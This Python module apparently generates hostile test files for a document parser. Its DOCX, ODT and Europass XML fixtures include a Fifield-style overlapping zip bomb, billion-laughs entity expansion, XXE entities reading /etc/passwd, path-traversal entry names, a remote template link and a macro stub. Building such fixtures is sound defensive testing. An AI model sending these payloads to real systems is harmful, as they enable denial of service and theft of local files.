"""Hostile DOCX, ODT and Europass files: bombs, lying sizes, duplicate parts, entities, outside paths."""

import zlib

import write_docx
from blocks import line
from packages import DEFLATED, STORED, Entry, central_header, deflated, end_record, local_header, package

MILLION_SPACES = " " * 1_048_576
ORDINARY = (line("Ordinary text of a small document."),)


def spaces_document(mebibytes):
    """A well-formed word/document.xml that is nearly all spaces."""
    head, tail = write_docx.document_xml((line("Before the spaces."),)).split("</w:p>", 1)
    return (head + "</w:p>" + MILLION_SPACES * mebibytes + tail).encode()


def replaced(name, **changes):
    """The entries of an ordinary DOCX, one of them with other fields."""
    out = write_docx.entries(write_docx.document_xml(ORDINARY))
    for entry in out:
        if entry.name == name:
            for field, value in changes.items():
                setattr(entry, field, value)
    return out


def overlapping(count=250, mebibytes=21):
    """The construction of Fifield, "A better zip bomb" (2019): `count` entries share one deflated kernel.

    The data of each entry begins with a stored DEFLATE block that quotes the local header of the next one, so all of
    them end in the same kernel. The last one is word/document.xml, and it is well formed. Built from the end; 250 × 21 MiB
    unpack to 5.5 GB.
    """
    kernel = spaces_document(mebibytes)
    names = [f"w/{number:03}" for number in range(count - 1)] + ["word/document.xml"]
    body, quoted, headers = deflated(kernel), b"", []
    for name in reversed(names):
        crc = zlib.crc32(kernel, zlib.crc32(quoted))
        entry = Entry(name, b"", DEFLATED, claimed=len(kernel) + len(quoted), crc=crc)
        header = local_header(entry, len(body))
        headers.append((entry, len(body), len(header)))
        size = len(header).to_bytes(2, "little") + (len(header) ^ 0xFFFF).to_bytes(2, "little")
        quoted = header + quoted
        last, body = header + body, b"\0" + size + header + body
    small = [entry for entry in replaced("") if entry.name != "word/document.xml"]
    return joined(small, last, list(reversed(headers)))


def joined(small, bomb, headers):
    """Ordinary entries, then the bomb's bytes, then a directory of both."""
    data, directory = b"", b""
    for entry in small:
        packed = deflated(entry.data)
        directory += central_header(entry, len(packed), len(data))
        data += local_header(entry, len(packed)) + packed
    offset = len(data)
    for entry, packed_size, header_size in headers:
        directory += central_header(entry, packed_size, offset)
        offset += header_size + 5
    data += bomb
    return data + directory + end_record(len(small) + len(headers), len(directory), len(data))


def laughs(root, inner, levels=10):
    """A document type with entities of ten entities each, and one mention of the last."""
    entities = '<!ENTITY l0 "ha">' + "".join(
        f'<!ENTITY l{level} "{f"&l{level - 1};" * 10}">' for level in range(1, levels))
    return f'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE {root} [{entities}]>\n' + inner.replace("@", f"&l{levels - 1};")


def external(root, inner):
    return (f'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE {root} [<!ENTITY outside SYSTEM "file:///etc/passwd">]>\n'
            + inner.replace("@", "&outside;"))


WORD_XML = f"<w:document {write_docx.W}><w:body><w:p><w:r><w:t>@</w:t></w:r></w:p></w:body></w:document>"
OFFICE_XML = ('<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
              'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.3"><office:body><office:text>'
              "<text:p>@</text:p></office:text></office:body></office:document-content>")
EUROPASS_XML = ('<SkillsPassport xmlns="http://europass.cedefop.europa.eu/Europass" locale="en"><LearnerInfo><Identification>'
                "<PersonName><FirstName>@</FirstName></PersonName></Identification></LearnerInfo></SkillsPassport>\n")


def odt(content):
    kind = "application/vnd.oasis.opendocument.text"
    manifest = ('<?xml version="1.0" encoding="UTF-8"?><manifest:manifest manifest:version="1.3" '
                'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
                f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{kind}"/>'
                '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>')
    return package([Entry("mimetype", kind.encode(), STORED), Entry("content.xml", content.encode()),
                    Entry("META-INF/manifest.xml", manifest.encode())])


def nested_xml(depth=100_000):
    runs = "<w:sdt><w:sdtContent>" * (depth // 2)
    ends = "</w:sdtContent></w:sdt>" * (depth // 2)
    return write_docx.document_xml((), runs + write_docx.paragraph(write_docx.run("Deep down.")) + ends).encode()


def with_links():
    links = (("http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate",
              "http://remote.invalid/template.dotm", "External"),
             ("http://schemas.openxmlformats.org/officeDocument/2006/relationships/image",
              "file:///etc/passwd", "External"))
    return package(write_docx.entries(write_docx.document_xml(ORDINARY), links=links))


def files():
    """Name → bytes."""
    main = "word/document.xml"
    second = Entry(main, write_docx.document_xml((line("The second document part."),)).encode())
    outside = [Entry(name, b"root:x:0:0:\n") for name in ("../../etc/passwd", "/etc/passwd", "word/../../../etc/passwd")]
    return {
        "docx-overlapping-entries.docx": overlapping(),
        "docx-one-large-part.docx": package(replaced(main, data=spaces_document(200))),
        "docx-size-too-small.docx": package(replaced(main, data=spaces_document(8), claimed=900)),
        "docx-size-too-large.docx": package(replaced(main, claimed=0xFFFFFFF0)),
        "docx-wrong-checksum.docx": package(replaced(main, crc=0x12345678)),
        "docx-duplicate-document.docx": package(replaced("") + [second]),
        "docx-path-outside.docx": package(replaced("") + outside),
        "docx-billion-laughs.docx": package(replaced(main, data=laughs("w:document", WORD_XML).encode())),
        "docx-external-entity.docx": package(replaced(main, data=external("w:document", WORD_XML).encode())),
        "docx-external-relationship.docx": with_links(),
        "docx-macro.docx": package(replaced("") + [Entry("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 Sub AutoOpen() Shell")]),
        "docx-nested-elements.docx": package(replaced(main, data=nested_xml())),
        "docx-no-document-part.docx": package([entry for entry in replaced("") if entry.name != main]),
        "odt-billion-laughs.odt": odt(laughs("office:document-content", OFFICE_XML)),
        "odt-external-entity.odt": odt(external("office:document-content", OFFICE_XML)),
        "europass-billion-laughs.xml": laughs("SkillsPassport", EUROPASS_XML).encode(),
        "europass-external-entity.xml": external("SkillsPassport", EUROPASS_XML).encode(),
    }
